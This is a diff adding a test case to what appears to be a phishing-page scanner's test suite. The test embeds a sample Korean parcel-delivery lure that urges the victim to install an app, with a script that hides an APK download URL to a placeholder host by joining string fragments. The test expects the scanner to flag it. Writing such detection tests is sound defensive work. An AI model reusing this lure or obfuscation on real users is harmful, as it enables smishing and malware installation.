@@ -167,6 +167,18 @@ describe('names split, painted or spoken', () => {
     expect(scan(painted('104,97,110,98,105,116')).verdict).toBe('clean'); // "hanbit"
   });
 
+  it('an APK address joined from an array of pieces, whatever literals follow it', () => {
+    const v = scan(
+      page(
+        'Track',
+        `<p>로켓배송 상품이 주소 오류로 반송 대기중입니다. 전용 앱을 설치해 주세요.</p><a id="d" href="#">앱 설치</a>
+        <script>var p=['ht','tps:','//dl.','x.example','/Track','.a','pk'];d.addEventListener('click',function(){location.href=p.join('')});</script>`,
+      ),
+    );
+    expect(v.reasons.map((r) => r.code)).toContain('app-download');
+    expect(v.verdict).toBe('suspicious-page');
+  });
+
   it('a logo named by its tooltip', () => {
     const v = scan(
       page(
